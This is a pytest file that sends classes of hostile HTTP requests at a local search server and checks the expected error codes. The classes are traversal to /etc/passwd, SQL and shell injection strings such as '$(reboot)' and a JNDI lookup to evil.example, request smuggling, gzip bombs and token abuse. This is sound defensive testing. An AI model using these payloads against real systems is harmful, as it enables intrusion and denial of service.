"""Hostile requests, by class, each with its expected answer; the server then still answers and has no bug."""

from __future__ import annotations

import gzip
import json
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from serving import Serving, make_index, story

from neardup.service.tokens import new_token

HEAD = b"Host: 127.0.0.1\r\nAuthorization: Bearer %TOKEN%\r\n"
JSON = b"Content-Type: application/json\r\n"
LIMIT = 1 << 20  # bytes of a body, as the server is started with
Raw = tuple[str, bytes, int]


def request(line: str, *headers: str, body: bytes = b"", length: bool = True, head: bytes = HEAD) -> bytes:
    """A request of the given bytes."""
    more = "".join(f"{header}\r\n" for header in headers).encode("latin-1", "surrogateescape")
    size = f"Content-Length: {len(body)}\r\n".encode() if length and body else b""
    return line.encode("latin-1") + b" HTTP/1.1\r\n" + head + more + size + b"\r\n" + body


def post(body: bytes, path: str = "/v1/query", *headers: str) -> bytes:
    return request(f"POST {path}", "Content-Type: application/json", *headers, body=body)


def lines(body: bytes, path: str = "/v1/documents", *headers: str) -> bytes:
    return request(f"POST {path}", "Content-Type: application/x-ndjson", *headers, body=body)


TRAVERSAL: list[Raw] = [
    (f"{verb} {path}", request(f"{verb} {path}"), status)
    for verb in ("GET", "DELETE")
    for path, status in (
        ("/v1/documents/../../etc/passwd", 404),
        ("/v1/documents/..%2f..%2f..%2fetc%2fpasswd", 404),
        ("/v1/documents/%2e%2e/%2e%2e/truth.db", 404),
        ("/v1/documents/..%5c..%5cwindows", 404),
        ("/v1/documents//etc/shadow", 404),
        ("/v1/documents/file:///etc/passwd", 404),
        ("/v1/documents/tokens.json", 404),
        ("/v1/documents/%00", 404),
        ("/v1/documents/truth.db%00.txt", 404),
        ("/v1/documents/%c0%ae%c0%ae/", 400),
        ("/v1/documents/%ff", 400),
        ("/v1/documents/%ed%a0%80", 400),
        ("/v1/../v1/info", 404),
        ("/../tokens.json", 404),
        ("/static/../truth.db", 404),
        ("/.git/config", 404),
    )
]
SQL = [
    "' OR '1'='1",
    "x'; DROP TABLE documents; --",
    '" UNION SELECT * FROM bodies --',
    "1); DELETE FROM state;--",
    "\\'",
    "%",
    "_",
]
SHELL = [
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "; ls",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\x1b]0;owned\x07",
    "\r\nSet-Cookie: a=b",
    "%s%s%s%n",
]
INJECTION: list[Raw] = [
    *((f"id {name!r}", post(json.dumps({"id": name, "text": story(1)}).encode(), "/v1/documents"), 200) for name in SQL + SHELL),
    *((f"text {name!r}", post(json.dumps({"text": name}).encode()), 200) for name in SQL + SHELL),
    *(
        (f"path {name!r}", request("GET /v1/clusters/" + "".join(f"%{byte:02X}" for byte in name.encode()) + "-none"), 404)
        for name in SQL + SHELL
    ),
    ("url", post(json.dumps({"text": "t", "url": "javascript:alert(1)//\r\nX: y"}).encode(), "/v1/documents"), 200),
    ("request id", request("GET /v1/info", "X-Request-ID: a\x1b[31m<b>"), 200),
    ("key with quotes", post(b'{"text": "k"}', "/v1/documents", "Idempotency-Key: ' OR 1=1 --"), 200),
    ("key of 256 characters", post(b'{"text": "k"}', "/v1/documents", "Idempotency-Key: " + "k" * 256), 422),
    ("empty key", post(b'{"text": "k"}', "/v1/documents", "Idempotency-Key: "), 422),
    ("cursor", request("GET /v1/clusters/a?cursor=%27%20OR%201=1"), 422),
    ("cursor of other JSON", request("GET /v1/clusters/a?cursor=eyJhIjoxfQ"), 422),
    ("cursor of NaN", request("GET /v1/clusters/a?cursor=W05hTiwgMV0"), 422),
]  # fmt: skip
OVERSIZED: list[Raw] = [
    ("declared", request("POST /v1/query", "Content-Type: application/json", f"Content-Length: {LIMIT + 1}"), 413),
    ("declared absurdly", request("POST /v1/query", "Content-Type: application/json", "Content-Length: " + "9" * 15), 413),
    ("sent", post(b'{"text": "' + b"a" * LIMIT + b'"}'), 413),
    ("text", post(b'{"text": "' + b"a" * 50_001 + b'"}'), 413),
    ("text in a batch", post(b'{"documents": [{"text": "' + b"a" * 50_001 + b'"}]}', "/v1/documents"), 413),
    ("text to compare", post(b'{"left": "' + b"a" * 50_001 + b'", "right": ""}', "/v1/compare"), 413),
    ("batch", post(json.dumps({"documents": [{"text": "a"}] * 101}).encode()), 413),
    ("batch to add", post(json.dumps({"documents": [{"text": "a"}] * 101}).encode(), "/v1/documents"), 413),
    ("line", lines(b'{"text": "' + b"a" * (LIMIT + 70_000) + b'"}'), 413),
    ("id", post(json.dumps({"id": "i" * 513, "text": "a"}).encode(), "/v1/documents"), 422),
    ("id of long characters", post(json.dumps({"id": "\U0001f600" * 512, "text": "a"}).encode(), "/v1/documents"), 200),
    ("groups", post(json.dumps({"access": ["g"] * 65, "text": "a"}).encode(), "/v1/documents"), 422),
    ("group", post(json.dumps({"access": ["g" * 65], "text": "a"}).encode(), "/v1/documents"), 422),
    ("url", post(json.dumps({"url": "u" * 4097, "text": "a"}).encode(), "/v1/documents"), 422),
    ("limit", post(b'{"text": "a", "limit": 1001}'), 422),
    ("path", request("GET /v1/documents/" + "a" * 40_000), 431),
    ("header", request("GET /v1/info", "X-Long: " + "a" * 40_000), 431),
    ("headers", request("GET /v1/info", *(f"X-{n}: {n}" for n in range(3000))), 431),
    ("gzip bomb", post(gzip.compress(b"[" * 50_000_000), "/v1/query", "Content-Encoding: gzip"), 413),
    ("gzip bomb of text", post(gzip.compress(b'{"text": "' + b"a" * 20_000_000 + b'"}'), "/v1/query", "Content-Encoding: gzip"), 413),
    ("gzip bomb as a line", lines(gzip.compress(b"a" * 30_000_000), "/v1/documents", "Content-Encoding: gzip"), 413),
    ("gzip of gzip", post(gzip.compress(gzip.compress(b'{"text": "a"}')), "/v1/query", "Content-Encoding: gzip"), 400),
    ("two encodings", post(b"a", "/v1/query", "Content-Encoding: gzip, gzip"), 415),
    ("br", post(b"a", "/v1/query", "Content-Encoding: br"), 415),
    ("gzip that is none", post(b"not gzip", "/v1/query", "Content-Encoding: gzip"), 400),
    ("gzip cut short", post(gzip.compress(b'{"text": "a"}')[:-9], "/v1/query", "Content-Encoding: gzip"), 400),
    ("gzip and more", post(gzip.compress(b'{"text": "a"}') + b"x", "/v1/query", "Content-Encoding: gzip"), 400),
]  # fmt: skip
SMUGGLING: list[Raw] = [
    ("length and chunks", request("POST /v1/query", "Content-Type: application/json", "Content-Length: 6", "Transfer-Encoding: chunked", body=b"0\r\n\r\nG", length=False), 400),
    ("two lengths", request("POST /v1/query", "Content-Length: 3", "Content-Length: 4", body=b"abcd", length=False), 400),
    ("lengths in a list", request("POST /v1/query", "Content-Length: 3, 4", body=b"abcd", length=False), 400),
    ("negative length", request("POST /v1/query", "Content-Length: -1"), 400),
    ("length in words", request("POST /v1/query", "Content-Length: ten"), 400),
    ("length with a sign", request("POST /v1/query", "Content-Length: +3", body=b"abc", length=False), 400),
    ("hexadecimal length", request("POST /v1/query", "Content-Length: 0x10"), 400),
    ("huge length", request("POST /v1/query", "Content-Type: application/json", "Content-Length: " + "9" * 30), 400),
    ("unknown encoding", request("POST /v1/query", "Transfer-Encoding: gzip, chunked"), 400),
    ("encoding twice", request("POST /v1/query", "Transfer-Encoding: chunked", "Transfer-Encoding: identity"), 400),
    ("encoding with a tab", request("POST /v1/query", "Transfer-Encoding:\x0bchunked"), 400),
    ("space before the colon", request("POST /v1/query", "Transfer-Encoding : chunked"), 400),
    ("folded header", request("GET /v1/info", "X-A: b\r\n c"), 200),
    ("header without a colon", request("GET /v1/info", "nonsense"), 400),
    ("header without a name", request("GET /v1/info", ": value"), 400),
    ("NUL in a header", request("GET /v1/info", "X-A: b\x00c"), 400),
    ("line feed in a header", b"GET /v1/info HTTP/1.1\r\n" + HEAD + b"X: a\rb\r\n\r\n", 400),
    ("bad chunk size", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"zz\r\nabc\r\n", length=False), 400),
    ("huge chunk size", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"f" * 30 + b"\r\nabc\r\n", length=False), 400),
    ("no version", b"GET /v1/info\r\n\r\n", 400),
    ("version 3", b"GET /v1/info HTTP/3.0\r\n" + HEAD + b"\r\n", 400),
    ("version 2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    ("TLS to a plain port", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50), 400),
    ("binary", bytes(range(256)), 400),
    ("an absolute address", request("GET http://evil.example/v1/info"), 404),
    ("another request in the body", post(b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"), 400),
    ("method of many letters", request("A" * 200 + " /v1/info"), 405),
    ("TRACE", request("TRACE /v1/info"), 405),
    ("CONNECT", request("CONNECT evil.example:443"), 404),
    ("PUT", request("PUT /v1/documents/a"), 405),
    ("method override", request("POST /v1/info", "X-HTTP-Method-Override: GET"), 405),
    ("upgrade", request("GET /v1/info", "Connection: Upgrade", "Upgrade: websocket"), 200),
    ("upgrade to HTTP/2", request("GET /v1/info", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), 200),
    ("chunks with an obscured name", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: xchunked", body=b"0\r\n\r\n", length=False), 400),
    ("chunks and a length of nothing", request("POST /v1/query", "Content-Type: application/json", "Content-Length: 0", "Transfer-Encoding: chunked", body=b"d\r\n" + b'{"text": "a"}' + b"\r\n0\r\n\r\n", length=False), 400),
    ("chunks in HTTP/1.0", b"POST /v1/query HTTP/1.0\r\n" + HEAD + JSON + b"Transfer-Encoding: chunked\r\n\r\nd\r\n" + b'{"text": "a"}' + b"\r\n0\r\n\r\n", 400),
    ("length with a space inside", request("POST /v1/query", "Content-Length: 1 3", body=b"abcd", length=False), 400),
    ("length in other digits", request("POST /v1/query", "Content-Length: \xb2", body=b"ab", length=False), 400),
    ("chunk with an extension", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"d;a=b\r\n" + b'{"text": "a"}' + b"\r\n0\r\n\r\n", length=False), 200),
    ("chunk of a negative size", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"-1\r\na\r\n0\r\n\r\n", length=False), 400),
    ("chunk that is longer than it says", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"2\r\nabcdef\r\n0\r\n\r\n", length=False), 400),
    ("trailer with a token", request("POST /v1/query", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"d\r\n" + b'{"text": "a"}' + b"\r\n0\r\nAuthorization: Bearer x\r\n\r\n", length=False), 200),
    ("expect, and no token", request("POST /v1/query", "Expect: 100-continue", "Content-Type: application/json", "Content-Length: 13", head=b"Host: 127.0.0.1\r\n"), 401),
    ("expect something else", request("POST /v1/query", "Expect: 200-ok", "Content-Type: application/json", body=b'{"text": "a"}'), 200),
    ("two requests with a bare line feed", b"GET /v1/info HTTP/1.1\n" + HEAD.replace(b"\r\n", b"\n") + b"\n", 200),
    ("fragment", request("GET /v1/info#x"), 404),
    ("space in the path", request("GET /v1/info x"), 400),
    ("asterisk", request("OPTIONS *"), 404),
]  # fmt: skip
BAD_UTF8: list[Raw] = [
    *(
        (f"text {bad!r}", post(b'{"text": "' + bad + b'"}'), 400)
        for bad in (b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xe2\x82", b"\\ud800", b"\\udfff", b"\\ud800\\u0041", b"\\x41", b"\\u12")
    ),
    ("id", post(b'{"id": "\xff", "text": "a"}', "/v1/documents"), 400),
    ("UTF-16", post('{"text": "a"}'.encode("utf-16")), 400),
    ("byte order mark", post(b"\xef\xbb\xbf" + b'{"text": "a"}'), 400),
    ("control character", post(b'{"text": "a\x00b"}'), 400),
    ("charset", request("POST /v1/query", "Content-Type: application/json; charset=utf-16", body=b'{"text": "a"}'), 200),
]  # fmt: skip
DEEP = 100_000
BAD_JSON: list[Raw] = [
    *((f"number {n}", post(b'{"text": "a", "threshold": ' + n + b"}"), status) for n, status in (
        (b"NaN", 422), (b"Infinity", 422), (b"-Infinity", 422), (b"1e999", 422), (b"-0.1", 422), (b"1.1", 422), (b"0x1", 400), (b"01", 400), (b"1_0", 400), (b'"0.9"', 200), (b"true", 200), (b"[]", 422), (b"1" * 5000, 400),
    )),
    *((f"quality {n}", post(b'{"text": "a", "quality": ' + n + b"}", "/v1/documents"), 422) for n in (b"NaN", b"Infinity", b"1e999", b"[]")),
    *((f"id {n}", post(b'{"text": "a", "id": ' + n + b"}", "/v1/documents"), 422) for n in (b"1e400", b"NaN", b"9223372036854775808", b"[]", b"{}", b"true", b'""', b"1.5")),
    ("deep arrays", post(b"[" * DEEP + b"]" * DEEP), 400),
    ("deep objects", post(b'{"a":' * DEEP + b"1" + b"}" * DEEP), 400),
    ("deep field", post(b'{"text": "a", "fields": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}"), 400),
    ("deep line", lines(b"[" * DEEP + b"\n"), 200),
    ("cut short", post(b'{"text": "a"'), 400),
    ("empty body", request("POST /v1/query", "Content-Type: application/json"), 400),
    ("two values", post(b'{"text": "a"} {"text": "b"}'), 400),
    ("null", post(b"null"), 422),
    ("list", post(b'[{"text": "a"}]'), 422),
    ("string", post(b'"a"'), 422),
    ("no text", post(b"{}"), 422),
    ("text of null", post(b'{"text": null}'), 422),
    ("text of a number", post(b'{"text": 1}'), 422),
    ("unknown name", post(b'{"text": "a", "admin": true}'), 422),
    ("prototype", post(b'{"text": "a", "__proto__": {"a": 1}}'), 422),
    ("a name twice", post(b'{"text": "a", "text": "b"}'), 200),
    ("many names", post(json.dumps({"text": "a", **{f"k{n}": n for n in range(20_000)}}).encode()), 422),
    ("no documents", post(b'{"documents": []}'), 422),
    ("documents of null", post(b'{"documents": null}'), 422),
    ("documents of an object", post(b'{"documents": {"text": "a"}}'), 422),
    ("text and documents", post(b'{"text": "a", "documents": [{"text": "b"}]}'), 422),
    ("documents in documents", post(b'{"documents": [{"documents": [{"text": "b"}]}]}'), 422),
    ("an unknown field", post(b'{"text": "a", "fields": {"title": "t"}}'), 422),
    ("a comment", post(b'{"text": "a" /* no */}'), 400),
    ("a trailing comma", post(b'{"text": "a",}'), 400),
    ("XML", request("POST /v1/query", "Content-Type: application/xml", body=b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"), 415),
    ("a form", request("POST /v1/query", "Content-Type: application/x-www-form-urlencoded", body=b"text=a"), 415),
    ("plain text, as a page of another site can send", request("POST /v1/documents", "Content-Type: text/plain", body=b'{"text": "a"}'), 415),
    ("no type", request("POST /v1/query", body=b'{"text": "a"}'), 415),
    ("multipart", request("POST /v1/documents", "Content-Type: multipart/form-data; boundary=x", body=b"--x--"), 415),
    ("if_new of words", post(b'{"text": "a"}', "/v1/documents?if_new=perhaps"), 422),
    ("limit of words", request("GET /v1/clusters/a?limit=many"), 422),
    ("negative limit", request("GET /v1/clusters/a?limit=-1"), 422),
    ("threshold of NaN", request("GET /v1/clusters/a?threshold=nan"), 422),
    ("a name of a quarter of a megabyte", post(b'{"text": "a", "' + b"k" * 250_000 + b'": 1}'), 422),
    ("many numbers", post(b'{"text": [' + b"1," * 200_000 + b"1]}"), 422),
    ("a long exponent", post(b'{"text": "a", "quality": 1e' + b"9" * 400 + b"}", "/v1/documents"), 422),
    ("a long fraction", post(b'{"text": "a", "quality": 0.' + b"9" * 40_000 + b"}", "/v1/documents"), 200),
    ("a text of combining marks", post(json.dumps({"text": "e" + "\u0301" * 40_000}).encode()), 200),
    ("a text of one long word", post(json.dumps({"text": "a" * 49_000}).encode()), 200),
    ("a text of one word, often", post(json.dumps({"text": "a " * 24_000}).encode()), 200),
]  # fmt: skip
HOSTS: list[Raw] = [
    (f"host {host!r}", b"GET /v1/info HTTP/1.1\r\nHost: " + host + b"\r\nAuthorization: Bearer %TOKEN%\r\n\r\n", status)
    for host, status in (
        (b"evil.example", 421), (b"evil.example:8484", 421), (b"127.0.0.1.evil.example", 421), (b"localhost.evil.example", 421), (b"127.0.0.2", 421), (b"[::2]", 421), (b"0.0.0.0", 421), (b"2130706433", 421), (b"localhost@evil.example", 421), (b"localhost,evil.example", 421), (b"*", 421), (b"127.0.0.1:evil", 421), (b"", 421),
        (b"localhost", 200), (b"LOCALHOST:1234", 200), (b"127.0.0.1", 200), (b"[::1]:8484", 200),
    )
] + [
    ("no host", b"GET /v1/info HTTP/1.1\r\nAuthorization: Bearer %TOKEN%\r\n\r\n", 400),
    ("two hosts", request("GET /v1/info", "Host: evil.example"), 400),
    ("no host, HTTP/1.0", b"GET /v1/info HTTP/1.0\r\nAuthorization: Bearer %TOKEN%\r\n\r\n", 421),
    ("health of another host", b"GET /healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n", 421),
    ("forwarded host", request("GET /v1/info", "X-Forwarded-Host: evil.example"), 200),
    ("origin", request("GET /v1/info", "Origin: https://evil.example"), 403),
    ("origin null", request("GET /v1/info", "Origin: null"), 403),
    ("origin of this server", request("POST /v1/documents", "Origin: http://127.0.0.1"), 403),
    ("preflight", request("OPTIONS /v1/documents", "Origin: https://evil.example", "Access-Control-Request-Method: POST"), 403),
    ("options", request("OPTIONS /v1/documents"), 405),
]  # fmt: skip
BARE = b"Host: 127.0.0.1\r\n"
TOKENS: list[Raw] = [
    (f"authorization {value!r}", request("GET /v1/info", *([f"Authorization: {value}"] if value is not None else []), head=BARE), 401)
    for value in (None, "", "Bearer", "Bearer ", "Bearer wrong", "Bearer ndt_" + "A" * 43, "Basic dXNlcjpwYXNz", "bearer\t", "Bearer null", "Bearer é", "Bearer " + "a" * 10_000, "Digest a=b", "%TOKEN%", "Bearer Bearer %TOKEN%")
] + [
    ("two tokens", request("GET /v1/info", "Authorization: Bearer other"), 401),
    ("token in the query", request("GET /v1/info?token=%TOKEN%&access_token=%TOKEN%", head=BARE), 401),
    ("token in a cookie", request("GET /v1/info", "Cookie: token=%TOKEN%", head=BARE), 401),
    ("metrics without a token", request("GET /metrics", head=BARE), 401),
    ("description without a token", request("GET /v1/openapi.json", head=BARE), 401),
    ("unknown path without a token", request("GET /admin", head=BARE), 401),
    ("health without a token", request("GET /healthz", head=BARE), 200),
    ("health and more", request("GET /healthz/../v1/info", head=BARE), 401),
    ("health with a slash", request("GET /healthz/", head=BARE), 401),
    *(
        (f"{name} {line}", request(line, *headers, body=data, head=BARE + f"Authorization: Bearer %{name}%\r\n".encode()), 403)
        for name, line, headers, data in (
            ("READ", "POST /v1/documents", ["Content-Type: application/json"], b'{"text": "a"}'),
            ("READ", "POST /v1/documents?if_new=true", ["Content-Type: application/json"], b'{"text": "a"}'),
            ("READ", "DELETE /v1/documents/a", [], b""),
            ("READ", "GET /metrics", [], b""),
            ("WRITE", "POST /v1/query", ["Content-Type: application/json"], b'{"text": "a"}'),
            ("WRITE", "POST /v1/check", ["Content-Type: application/json"], b'{"text": "a"}'),
            ("WRITE", "POST /v1/documents?if_new=true", ["Content-Type: application/json"], b'{"text": "a"}'),
            ("WRITE", "GET /v1/documents/a", [], b""),
            ("WRITE", "GET /v1/clusters/a", [], b""),
            ("WRITE", "GET /v1/info", [], b""),
            ("WRITE", "GET /metrics", [], b""),
            ("GROUP", "POST /v1/documents", ["Content-Type: application/json"], b'{"id": "other", "text": "a"}'),
            ("GROUP", "POST /v1/documents", ["Content-Type: application/json"], b'{"text": "a", "access": ["board"]}'),
            ("GROUP", "DELETE /v1/documents/other", [], b""),
            ("GROUP", "GET /metrics", [], b""),
        )
    ),
]  # fmt: skip
CLASSES = {
    "traversal": TRAVERSAL, "injection": INJECTION, "oversized": OVERSIZED, "smuggling": SMUGGLING, "utf8": BAD_UTF8,
    "json": BAD_JSON, "host": HOSTS, "token": TOKENS,
}  # fmt: skip


class Target:
    """A server with tokens."""

    def __init__(self, folder: Path) -> None:
        index = make_index(folder / "news.index", [{"id": "a", "text": story(1)}])
        tokens = index / "tokens.json"
        self.tokens = {
            "TOKEN": new_token(tokens, "all", ["admin"]),
            "READ": new_token(tokens, "reader", ["read"]),
            "WRITE": new_token(tokens, "writer", ["write"]),
            "GROUP": new_token(tokens, "group", ["read", "write"], ["staff"], "staff/"),
        }
        limits = ("--max-body", "1", "--max-text", "50000", "--max-batch", "100", "--timeout", "1.5")
        self.server = Serving(index, *limits, token=self.tokens["TOKEN"])

    def status(self, data: bytes, **settings: Any) -> tuple[int, bytes]:
        for name, secret in self.tokens.items():
            data = data.replace(f"%{name}%".encode(), secret.encode())
        answer = self.server.raw(data, **settings)
        return (int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0), answer


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    made = Target(tmp_path_factory.mktemp("hostile"))
    yield made
    assert made.server.stop() == 0
    assert not made.server.events("bug") and not made.server.events("not json")


def test_there_are_at_least_150_payloads() -> None:
    assert sum(map(len, CLASSES.values())) >= 150


@pytest.mark.parametrize("kind", CLASSES)
def test_hostile_requests_have_their_expected_answers(target: Target, kind: str) -> None:
    wrong = []
    for name, data, expected in CLASSES[kind]:
        status, answer = target.status(data)
        if status != expected:
            wrong.append((name, status, expected, answer[-300:]))
        if status >= 400:
            head, _, body = answer.partition(b"\r\n\r\n")
            assert b"content-type: application/problem+json" in head, (name, answer)
            assert json.loads(body)["request_id"]
            assert b"Traceback" not in body and b"truth.db:" not in body
        head = answer.partition(b"\r\n\r\n")[0].lower()
        assert b"set-cookie" not in head and b"access-control" not in head and b"server:" not in head
    assert not wrong, "\n".join(f"{n[:60]}: {s} not {e} {a[-160:]!r}" for n, s, e, a in wrong)
    assert target.server.http.get("/readyz").status_code == 200


def test_slow_requests_end(target: Target) -> None:
    slow = [
        (b"", 408),
        (b"GET /v1/in", 408),
        (b"GET /v1/info HTTP/1.1\r\nHost: local", 408),
        (request("POST /v1/query", "Content-Type: application/json", "Content-Length: 100", body=b"{", length=False), 408),
        (request("POST /v1/documents", "Content-Type: application/x-ndjson", "Transfer-Encoding: chunked", length=False), 408),
        (request("POST /v1/documents", "Content-Type: application/json", "Transfer-Encoding: chunked", body=b"5\r\nab", length=False), 408),
    ]  # fmt: skip

    def send(one: tuple[bytes, int]) -> tuple[int, int, float]:
        begin = time.monotonic()
        status, _ = target.status(one[0], seconds=10)
        return status, one[1], time.monotonic() - begin

    with ThreadPoolExecutor(len(slow)) as pool:
        for status, expected, seconds in pool.map(send, slow):
            assert status == expected
            assert seconds < 8


def test_a_body_that_drips_does_not_hold_a_connection(target: Target) -> None:
    import socket

    with socket.create_connection(("127.0.0.1", target.server.port), timeout=10) as connection:
        head = request(
            "POST /v1/query", "Content-Type: application/json", "Content-Length: 100000", length=False
        )
        connection.sendall(head.replace(b"%TOKEN%", target.tokens["TOKEN"].encode()))
        begin, answer = time.monotonic(), b""
        connection.settimeout(0.2)
        while time.monotonic() - begin < 8 and not answer:
            try:
                connection.sendall(b" ")
                answer = connection.recv(1000)
            except TimeoutError:
                continue
            except ConnectionError:
                break
    assert time.monotonic() - begin < 8
    assert not answer or b" 408 " in answer


def test_a_body_that_ends_early_changes_nothing(target: Target) -> None:
    body = b'{"id": "half", "text": "half of it"}'
    data = request(
        "POST /v1/documents",
        "Content-Type: application/json",
        f"Content-Length: {len(body) + 9}",
        length=False,
    )
    import socket

    with socket.create_connection(("127.0.0.1", target.server.port), timeout=10) as connection:
        connection.sendall(data.replace(b"%TOKEN%", target.tokens["TOKEN"].encode()) + body)
    assert target.server.http.get("/v1/documents/half").status_code == 404


def test_text_of_requests_is_not_in_errors(target: Target) -> None:
    secret = "Confidential words"
    for data in (
        {"text": secret, secret: 1}, {"text": [secret]}, {"text": secret, "limit": secret}, {"documents": [secret]},
    ):  # fmt: skip
        answer = target.server.post("/v1/query", data)
        assert answer.status_code == 422
        assert secret not in answer.text.replace(f"{secret}: Extra", "").replace(f'"place": "{secret}"', "")


@pytest.mark.parametrize(
    "malformed",
    [
        b"PRI * HTTP/2.0\r\n\r\n",
        request(
            "POST /v1/query",
            "Content-Length: 4",
            "Transfer-Encoding: chunked",
            body=b"0\r\n\r\n",
            length=False,
        ),
        request("POST /v1/query", "Content-Type: text/plain", "Content-Length: 3", body=b"abc", length=False),
    ],
    ids=["HTTP/2", "two lengths", "an unread body"],
)
def test_what_follows_a_malformed_request_is_not_answered(target: Target, malformed: bytes) -> None:
    for _ in range(5):
        _, answer = target.status(malformed + request("GET /v1/info"), seconds=3)
        assert answer.count(b"HTTP/1.1 ") == 1 and b"connection: close" in answer
